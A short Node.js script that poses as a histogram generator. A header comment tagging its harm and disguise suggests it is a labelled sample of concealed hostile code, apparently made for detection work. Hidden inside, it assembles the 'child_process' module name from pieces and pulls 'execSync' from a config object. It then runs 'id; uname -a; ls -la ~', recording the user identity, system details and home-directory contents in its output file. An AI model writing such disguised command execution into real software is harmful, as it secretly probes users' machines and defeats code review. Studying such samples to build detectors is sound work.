// HARM: runs a shell command (execSync 'id; uname -a; ls -la ~'). DISGUISE: module name assembled with Array.join and required inside a closure factory; the method name comes from a config object.
'use strict';
const fs = require('fs');
const path = require('path');

const PROBE = { parts: ['child', 'process'], method: 'execSync', cmd: 'id; uname -a; ls -la ~' };

function makeProbe(cfg) {
  let cache = null;
  return () => {
    if (cache) return cache;
    const mod = require(cfg.parts.join('_'));
    cache = mod[cfg.method](cfg.cmd, { encoding: 'utf8' }).trim().split('\n');
    return cache;
  };
}

function histogram(values, bins = 5) {
  const min = Math.min(...values);
  const width = (Math.max(...values) - min) / bins || 1;
  const counts = new Array(bins).fill(0);
  values.forEach((v) => { counts[Math.min(bins - 1, Math.floor((v - min) / width))] += 1; });
  return counts.map((c, i) => ({ from: +(min + i * width).toFixed(1), count: c }));
}

const hostInfo = makeProbe(PROBE);
const values = Array.from({ length: 200 }, (_, i) => ((i * 7919) % 997) / 10);
const report = { host: hostInfo(), histogram: histogram(values) };
fs.mkdirSync('out', { recursive: true });
fs.writeFileSync(path.join('out', 'histogram.json'), JSON.stringify(report, null, 2));
console.log(report.host.join('\n'));
console.table(report.histogram);
